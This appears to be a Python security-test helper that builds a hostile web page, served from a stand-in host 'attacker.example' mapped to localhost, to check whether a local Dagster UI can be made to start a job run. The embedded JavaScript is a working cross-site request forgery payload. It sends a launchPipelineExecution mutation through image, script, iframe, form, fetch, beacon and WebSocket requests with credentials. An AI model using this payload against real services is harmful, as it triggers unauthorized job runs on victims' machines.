"""A web page that tries everything to start a run in a Dagster UI on this machine, and the mutation that it sends."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode

from orchestration.instance.setup import REFRESH_JOB

ATTACKER = "attacker.example"
RESOLVED_TO_THIS_MACHINE = f"--host-resolver-rules=MAP {ATTACKER} 127.0.0.1"


@dataclass(frozen=True)
class Launch:
    """The mutation that starts the whole job, and where it is sent."""

    ui: str

    mutation = (
        "mutation L($p: ExecutionParams!) { launchPipelineExecution(executionParams: $p) "
        "{ __typename ... on LaunchRunSuccess { run { runId } } } }"
    )

    @property
    def variables(self) -> dict[str, Any]:
        job = {"repositoryName": "__repository__", "repositoryLocationName": "orchestration.definitions", "jobName": REFRESH_JOB}
        return {"p": {"selector": job, "runConfigData": {}, "mode": "default"}}

    @property
    def address(self) -> str:
        return f"{self.ui}/graphql"

    @property
    def query_string(self) -> str:
        return urlencode({"query": self.mutation, "variables": json.dumps(self.variables)})

    @property
    def body(self) -> str:
        return json.dumps({"query": self.mutation, "variables": self.variables})


PAGE = """<!doctype html><title>working</title><body><script>
const [address, queryString, body, query, variables] = CONTENT;
const byGet = address + '?' + queryString;
const once = (element, attributes) => new Promise(done => {
  Object.assign(element, attributes); element.onload = element.onerror = done;
  document.body.append(element); setTimeout(done, 3000);
});
const sent = (url, options) => fetch(url, {method: 'POST', body, ...options});
const socket = () => new Promise(done => {
  const ws = new WebSocket(address.replace('http', 'ws'), 'graphql-ws');
  const start = JSON.stringify({type: 'start', id: '1', payload: {query, variables}});
  ws.onopen = () => { ws.send(start); setTimeout(() => done('open'), 1000); };
  ws.onerror = ws.onclose = () => done('refused');
});
const form = enctype => {
  const made = document.createElement('form'), input = document.createElement('input'), target = document.createElement('iframe');
  target.name = 'f' + Math.random(); Object.assign(input, {name: 'query', value: query});
  Object.assign(made, {method: 'POST', enctype, action: byGet, target: target.name});
  made.append(input); document.body.append(target, made); made.submit();
};
(async () => {
  await once(document.createElement('img'), {src: byGet});
  await once(document.createElement('script'), {src: byGet});
  await once(document.createElement('iframe'), {src: byGet});
  for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) form(enctype);
  for (const type of ['text/plain', 'text/plain; a=application/json', 'application/x-www-form-urlencoded'])
    for (const url of [address, byGet])
      await sent(url, {mode: 'no-cors', credentials: 'include', headers: {'content-type': type}}).catch(() => null);
  navigator.sendBeacon(byGet, body);
  navigator.sendBeacon(address, new Blob([body], {type: 'text/plain'}));
  const answers = [await socket()];
  for (const headers of [{'content-type': 'application/json'}, {'x-levelground-token': 'guess'}, {}])
    answers.push(await sent(address, {credentials: 'include', headers}).then(() => 'read', () => 'refused'));
  answers.push(await fetch(byGet, {credentials: 'include'}).then(() => 'read', () => 'refused'));
  await new Promise(done => setTimeout(done, 1000));
  document.title = 'done: ' + [...new Set(answers)].join(', ');
})();
</script>"""


def hostile_page(launch: Launch) -> str:
    """The page as HTML. Its title starts with `done` when it has tried everything; `done: refused` if nothing answered."""
    content = json.dumps([launch.address, launch.query_string, launch.body, launch.mutation, launch.variables])
    return PAGE.replace("CONTENT", content.replace("<", "\\u003c"))
